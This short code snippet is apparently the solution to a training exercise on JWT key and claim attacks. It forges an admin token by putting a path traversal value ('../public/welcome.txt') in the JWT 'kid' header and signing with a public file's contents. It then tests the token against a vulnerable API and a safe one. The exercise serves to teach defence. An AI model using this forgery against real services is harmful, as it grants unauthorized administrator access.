# Solution: 11-key-and-claim-attacks, exercise 2
header = {'alg': 'HS256', 'typ': 'JWT', 'kid': '../public/welcome.txt'}
forged_6a = forge_hmac(header, admin_claims, welcome)

check_attack('kid path', forged_6a, kid_path_api, safe)
